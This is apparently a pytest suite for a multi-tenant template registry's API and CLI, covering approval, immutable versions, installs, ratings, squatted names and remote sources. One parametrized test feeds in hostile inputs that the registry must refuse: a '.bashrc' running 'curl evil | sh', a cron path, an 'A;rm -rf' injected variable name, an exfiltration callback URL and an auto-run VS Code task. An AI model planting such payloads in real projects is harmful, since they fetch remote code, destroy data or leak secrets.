"""The template registry through its API, as tenants with ordinary accounts use it and
abuse it: publishing, approval, immutability, installs and ratings; and what an attacker
tries (path tricks, oversized manifests, squatted names, another's approval) refused
with a clear error and nothing stored."""

from __future__ import annotations

import signal
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import start_agent
from tests.templates.conftest import files_b64, hyac
from tests.tenancy.conftest import Platform, agent_env

MANIFEST = """\
[template]
name = "{name}"
version = "{version}"
title = "{title}"
description = "Greets."
tags = ["demo"]
runtime = "python"
author = "Ada"
licence = "MIT"

[template.secrets.API_KEY]
description = "The key of the greeting service"

[template.env.GREETING]
description = "The word to greet with"
default = "hello"
"""

HYAC_TOML = """\
[project]
name = "greeter"
runtime = "python3.11"
tenant = "default"

[functions.greet]
env = { GREETING = "{{env.GREETING}}" }
"""

GREET = """\
def main(context):
    return {"greeting": context.env["GREETING"]}
"""


def template(name: str = "greeter", version: str = "1.0.0", title: str = "Greeter",
             **extra: str | bytes) -> dict[str, str]:
    files: dict[str, str | bytes] = {
        "template.toml": MANIFEST.format(name=name, version=version, title=title),
        "hyac.toml": HYAC_TOML, "README.md": f"# {title}\n", "functions/greet.py": GREET,
        "sample.json": '{"function": "greet", "expect": {"status": 200}}',
    }
    files.update(extra)
    return files_b64(files)


@pytest.fixture(scope="module")
def users(platform: Platform) -> dict[str, str]:
    platform.tenant("ada-team")
    platform.tenant("bob-team")
    return {"ada": platform.user("ada", "ada-team", "developer"),
            "bob": platform.user("bob", "bob-team", "developer")}


def publish(platform: Platform, token: str | None, files: dict[str, str]):  # type: ignore[no-untyped-def]
    with platform.http(token) as client:
        return client.post("/v1/templates", json={"files_b64": files})


def names(platform: Platform, token: str | None, query: str = "") -> list[str]:
    with platform.http(token) as client:
        answer = client.get("/v1/templates", params={"q": query})
    assert answer.status_code == 200, answer.text
    return [item["name"] for item in answer.json()["templates"]]


def test_builtins_are_listed_searchable_and_scanned_without_a_false_clean(
    platform: Platform, users: dict[str, str],
) -> None:
    listed = names(platform, users["ada"])
    assert {"kv-counter", "webhook-hmac", "node-todo-api", "deno-greeter"} <= set(listed)
    assert names(platform, users["ada"], "mail csv") == ["csv-report"]
    with platform.http(users["bob"]) as client:
        shown = client.get("/v1/templates/webhook-hmac").json()
    assert shown["builtin"] and shown["status"] == "approved"
    assert shown["secrets"]["WEBHOOK_SECRET"]["description"]
    assert shown["readme"].startswith("# Webhook receiver")
    assert shown["scan"]["status"] == "no_dependencies"
    with platform.http(users["bob"]) as client:
        pillow = client.get("/v1/templates/image-thumbnails").json()["scan"]
    # Pillow>=10 is not pinned and this agent has no advisories: unknown, never "clean"
    assert pillow["status"] == "unknown" and pillow["packages"][0]["name"].lower() == "pillow"


def test_a_users_template_is_pending_until_the_owner_approves_it(
    platform: Platform, users: dict[str, str],
) -> None:
    answer = publish(platform, users["ada"], template("ada-greeter"))
    assert answer.status_code == 201, answer.text
    assert answer.json()["status"] == "pending"
    assert "ada-greeter" in names(platform, users["ada"])  # its publisher sees it
    assert "ada-greeter" not in names(platform, users["bob"])  # no one else yet
    with platform.http(users["bob"]) as client:
        assert client.get("/v1/templates/ada-greeter").status_code == 404
        assert client.post("/v1/templates/ada-greeter/install", json={}).status_code == 404
        # a user cannot approve, not even their own
        refused = client.post("/v1/templates/ada-greeter/versions/1.0.0/approve")
    assert refused.status_code == 403 and refused.json()["error"]["code"] == "forbidden"
    with platform.http(users["ada"]) as client:
        assert client.post("/v1/templates/ada-greeter/versions/1.0.0/approve").status_code == 403
    with platform.owner() as client:
        approved = client.post("/v1/templates/ada-greeter/versions/1.0.0/approve")
    assert approved.status_code == 200 and approved.json()["status"] == "approved"
    assert "ada-greeter" in names(platform, users["bob"])


def test_a_moderator_reviews_without_being_the_owner(platform: Platform, users: dict[str, str]) -> None:
    platform.tenant("mods")
    mona = platform.user("mona", "mods", "viewer")  # the role in a tenant does not matter
    assert publish(platform, users["ada"], template("ada-second")).json()["status"] == "pending"
    assert "ada-second" in names(platform, mona)  # a reviewer sees what waits for review
    with platform.http(mona) as client:
        approved = client.post("/v1/templates/ada-second/versions/1.0.0/approve")
    assert approved.status_code == 200 and approved.json()["status"] == "approved"
    assert "ada-second" in names(platform, users["bob"])
    own = publish(platform, mona, template("monas-template"))
    assert own.status_code == 201 and own.json()["status"] == "approved"
    with platform.http(users["bob"]) as client:  # not a moderator
        refused = client.post("/v1/templates/ada-second/versions/1.0.0/reject")
    assert refused.status_code == 403 and "moderator" in refused.json()["error"]["message"]


def test_versions_are_immutable_content_addressed_and_counted(
    platform: Platform, users: dict[str, str],
) -> None:
    first = publish(platform, None, template("owners-greeter"))  # the owner: approved at once
    assert first.status_code == 201 and first.json()["status"] == "approved"
    again = publish(platform, None, template("owners-greeter", title="Changed"))
    assert again.status_code == 409, again.text
    assert again.json()["error"]["code"] == "template_version_exists"
    second = publish(platform, None, template("owners-greeter", version="1.1.0"))
    assert second.status_code == 201
    assert second.json()["sha256"] != first.json()["sha256"]
    assert second.json()["versions"] == ["1.1.0", "1.0.0"]
    with platform.http(users["bob"]) as client:
        old = client.post("/v1/templates/owners-greeter/install", json={"version": "1.0.0"}).json()
        assert old["sha256"] == first.json()["sha256"] and old["version"] == "1.0.0"
        newest = client.post("/v1/templates/owners-greeter/install", json={}).json()
        assert newest["version"] == "1.1.0" and newest["installs"] == 1  # one user, once
        assert client.put("/v1/templates/owners-greeter/rating", json={"stars": 5}).status_code == 200
        assert client.put("/v1/templates/owners-greeter/rating", json={"stars": 2}).status_code == 200
        assert client.put("/v1/templates/owners-greeter/rating", json={"stars": 9}).status_code == 422
    with platform.http(users["ada"]) as client:
        assert client.post("/v1/templates/owners-greeter/install", json={}).json()["installs"] == 2
        rating = client.put("/v1/templates/owners-greeter/rating", json={"stars": 4}).json()
    assert rating == {"average": 3.0, "count": 2}  # bob's second rating replaced his first


@pytest.mark.parametrize(("name", "taken"), [
    ("kv-counter", "kv-counter"),  # a built-in's own name
    ("kvcounter", "kv-counter"),  # the same without the dash
    ("kv-c0unter", "kv-counter"),  # a zero for an o
    ("webhook-hrnac", "webhook-hmac"),  # r n for m
])
def test_a_name_squatting_another_template_is_refused(
    platform: Platform, users: dict[str, str], name: str, taken: str,
) -> None:
    names(platform, None)  # the registry is open (and its folder made)
    stored = platform.agent.data_dir / "templates"
    before = sorted(stored.iterdir())
    answer = publish(platform, users["bob"], template(name, title=f"Squat {name}"))
    assert answer.status_code == 409, answer.text
    assert sorted(stored.iterdir()) == before  # refused before anything was written
    error = answer.json()["error"]
    assert error["code"] == "template_name_taken" and error["taken_by"] == taken
    assert name not in names(platform, None) or name == taken


def test_two_users_racing_for_one_new_name_get_it_once(
    platform: Platform, users: dict[str, str],
) -> None:
    from concurrent.futures import ThreadPoolExecutor

    tokens = [users["ada"], users["bob"]] * 4
    with ThreadPoolExecutor(len(tokens)) as pool:
        answers = list(pool.map(
            lambda args: publish(platform, args[1], template("contested", version=f"1.0.{args[0]}")),
            enumerate(tokens)))
    winners = {tokens[i] for i, answer in enumerate(answers) if answer.status_code == 201}
    assert len(winners) == 1, [answer.text for answer in answers]
    losers = [answer for answer in answers if answer.status_code != 201]
    assert losers and all(answer.json()["error"]["code"] == "template_name_taken" for answer in losers)


def test_another_users_name_is_theirs(platform: Platform, users: dict[str, str]) -> None:
    assert publish(platform, users["ada"], template("ada-tools")).status_code == 201
    taken = publish(platform, users["bob"], template("ada-tools", version="9.0.0"))
    assert taken.status_code == 409 and taken.json()["error"]["code"] == "template_name_taken"
    # its owner publishes the next version
    assert publish(platform, users["ada"], template("ada-tools", version="1.0.1")).status_code == 201


@pytest.mark.parametrize(("extra", "said"), [
    ({"../escape.py": "x"}, "'..' path segment"),
    ({"functions/../../escape.py": "x"}, "'..' path segment"),
    ({"/etc/cron.d/evil": "x"}, "absolute path"),
    ({"functions\\evil.py": "x"}, "not '\\'"),
    ({".bashrc": "curl evil | sh"}, "not part of a template"),
    ({".vscode/settings.json": "{}"}, "not part of a template"),
    ({"functions/a\x00b.py": "x"}, "control characters"),
    ({"template.toml": 'name = "x"'}, "one [template] table"),
    ({"template.toml": MANIFEST.format(name="long-title", version="1.0.0", title="T" * 5000)},
     "template.title"),
    ({"template.toml": MANIFEST.format(name="x" * 200, version="1.0.0", title="t")}, "template.name"),
    ({"template.toml": MANIFEST.format(name="bad-version", version="1.0", title="t")},
     "template.version"),
    ({"template.toml": MANIFEST.format(name="big", version="1.0.0", title="t")
      + "# " + "x" * 20000 + "\n"}, "larger than"),
    ({"template.toml": MANIFEST.format(name="evil-env", version="1.0.0", title="t")
      + '\n[template.env."A;rm -rf"]\ndescription = "x"\n'}, "not a variable name"),
    ({"sample.json": "not json"}, "sample.json is not JSON"),
    ({"template.toml": MANIFEST.format(name="vs", version="1.0.0", title="t").replace(
        'licence = "MIT"\n', 'licence = "MIT"\nsample = ".vscode/tasks.json"\n'),
      ".vscode/tasks.json": '{"function": "greet", "tasks": [{"runOptions": {"runOn": "folderOpen"}}]}'},
     "template.sample"),
    ({"hyac.toml": HYAC_TOML.replace('tenant = "default"', 'tenant = "default"\ntake_over = true')},
     "take_over"),
    ({"hyac.toml": HYAC_TOML + 'callback_url = "https://collector.example/steal"\n'}, "callback_url"),
    ({"hyac.toml": "[project\n"}, "hyac.toml is not valid TOML"),
    ({"README.md": "x" * 70000}, "README.md is larger"),
])
def test_a_malicious_or_malformed_template_is_refused(
    platform: Platform, users: dict[str, str], extra: dict[str, str], said: str,
) -> None:
    answer = publish(platform, users["bob"], template("bobs-template", **extra))
    assert answer.status_code in (400, 413, 422), answer.text
    error = answer.json()["error"]
    assert said in error["message"], error
    assert error["code"] in ("invalid_template", "invalid_input", "payload_too_large")
    assert "bobs-template" not in names(platform, users["bob"])


def test_an_oversized_template_is_refused(platform: Platform, users: dict[str, str]) -> None:
    big = {f"functions/blob{index}.bin": b"\x00" * (600 * 1024) for index in range(4)}
    answer = publish(platform, users["bob"], template("bobs-big", **big))  # type: ignore[arg-type]
    assert answer.status_code == 413, answer.text


def test_only_the_owner_manages_sources_and_sharing_is_off_by_default(
    platform: Platform, users: dict[str, str],
) -> None:
    with platform.http(users["ada"]) as client:
        refused = client.post("/v1/templates/sources", json={"url": "http://example.com"})
    assert refused.status_code == 403
    with platform.owner() as client:
        bad = client.post("/v1/templates/sources", json={"url": "file:///etc/passwd"})
        assert bad.status_code == 400 and "http://" in bad.json()["error"]["message"]
        # no token is asked for the public face, so it is off unless the owner opens it
        assert client.get("/v1/templates/public").status_code == 404


@pytest.fixture(scope="module")
def community(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Platform]:
    """A second agent that shares its approved templates."""
    home = tmp_path_factory.mktemp("community")
    running = start_agent(home / "data", "--sandbox", "bwrap",
                          env={**agent_env(), "HYAC_TEMPLATES_PUBLIC": "1"})
    yield Platform(running)
    running.kill(signal.SIGTERM)


def test_a_remote_source_is_listed_and_installed_from(
    platform: Platform, community: Platform, users: dict[str, str],
) -> None:
    assert publish(community, None, template("shared-greeter")).status_code == 201
    community.tenant("eve-team")
    eve = community.user("eve", "eve-team", "developer")
    assert publish(community, eve, template("pending-one")).json()["status"] == "pending"
    with platform.owner() as client:
        added = client.post("/v1/templates/sources", json={"url": community.agent.url + "/"})
        assert added.status_code == 201 and added.json() == [community.agent.url]
    try:
        with platform.http(users["ada"]) as client:
            listed = client.get("/v1/templates", params={"q": "greeter"}).json()
            remote = [item for item in listed["templates"] if item["name"] == "shared-greeter"]
            assert remote and remote[0]["source"] == community.agent.url
            # what the community's owner has not approved is not shared
            everything = client.get("/v1/templates").json()["templates"]
            assert "pending-one" not in [item["name"] for item in everything]
            assert client.post("/v1/templates/pending-one/install", json={}).status_code == 404
            shown = client.get("/v1/templates/shared-greeter").json()
            assert shown["source"] == community.agent.url and shown["readme"] == "# Greeter\n"
            assert shown["scan"]["status"] == "no_dependencies"
        shown_by_cli = hyac("template", "show", "shared-greeter", agent=platform.agent, token=users["ada"])
        assert shown_by_cli.returncode == 0, shown_by_cli.stderr
        assert f"(from {community.agent.url})" in shown_by_cli.stdout
        with platform.http(users["ada"]) as client:
            installed = client.post("/v1/templates/shared-greeter/install", json={}).json()
            assert installed["source"] == community.agent.url
            assert "functions/greet.py" in installed["files_b64"]
            missing = client.post("/v1/templates/no-such-template/install", json={})
            assert missing.status_code == 404
    finally:
        with platform.owner() as client:
            client.delete("/v1/templates/sources", params={"url": community.agent.url})


def test_cli_init_from_a_template_fills_in_its_names(
    platform: Platform, users: dict[str, str], tmp_path: Path,
) -> None:
    made = hyac("init", "hook", "--template", "webhook-hmac@1.0.0", agent=platform.agent,
                token=users["ada"], cwd=tmp_path)
    assert made.returncode == 0, made.stderr
    assert "hyac secret set WEBHOOK_SECRET" in made.stdout
    manifest = (tmp_path / "hook" / "hyac.toml").read_text()
    assert 'name = "hook"' in manifest and 'SIGNATURE_HEADER = "x-hub-signature-256"' in manifest
    assert "#   hyac secret set WEBHOOK_SECRET" in manifest
    stubs = (tmp_path / "hook" / "typings" / "hyac_context.pyi").read_text()
    assert "WEBHOOK_SECRET" in stubs and "SIGNATURE_HEADER" in stubs
    again = hyac("init", "hook", "--template", "webhook-hmac", agent=platform.agent,
                 token=users["ada"], cwd=tmp_path)
    assert again.returncode == 2 and "already exists" in again.stderr
    with platform.owner() as client:
        before = client.get("/v1/templates/deno-greeter").json()["installs"]
    mismatch = hyac("init", "other", "--template", "deno-greeter", "--runtime", "python3.11",
                    agent=platform.agent, token=users["ada"], cwd=tmp_path)
    assert mismatch.returncode == 2 and "written for deno, not python3.11" in mismatch.stderr
    with platform.owner() as client:
        assert client.get("/v1/templates/deno-greeter").json()["installs"] == before
    unknown = hyac("init", "other", "--template", "no-such-thing", agent=platform.agent,
                   token=users["ada"], cwd=tmp_path)
    assert unknown.returncode == 2 and "Traceback" not in unknown.stderr
    assert "unknown template 'no-such-thing'" in unknown.stderr
    assert not (tmp_path / "other").exists()


def test_cli_publish_show_and_a_clear_error(
    platform: Platform, users: dict[str, str], tmp_path: Path,
) -> None:
    import base64

    folder = tmp_path / "mine"
    for path, encoded in template("cli-greeter").items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(base64.b64decode(encoded))
    (folder / "typings").mkdir()
    (folder / "typings" / "junk.pyi").write_text("x")  # left out: not part of a template
    published = hyac("template", "publish", str(folder), agent=platform.agent, token=users["ada"])
    assert published.returncode == 0, published.stderr
    assert "cli-greeter@1.0.0  published (5 files" in published.stdout
    assert "Pending" in published.stderr  # a note, beside the result
    shown = hyac("template", "show", "cli-greeter", agent=platform.agent, token=users["ada"])
    assert shown.returncode == 0 and "API_KEY: The key of the greeting service" in shown.stdout
    listed = hyac("template", "search", "greeter", agent=platform.agent, token=users["ada"])
    assert "cli-greeter" in listed.stdout and "pending" in listed.stdout
    (folder / "template.toml").write_text(
        MANIFEST.format(name="cli-greeter", version="1.0.0", title="x" * 300))
    bad = hyac("template", "publish", str(folder), "--json", agent=platform.agent, token=users["ada"])
    assert bad.returncode == 2 and "Traceback" not in bad.stderr
    assert "template.title" in bad.stderr and bad.stderr.count("\n") == 1
    assert '"invalid_template"' in bad.stdout
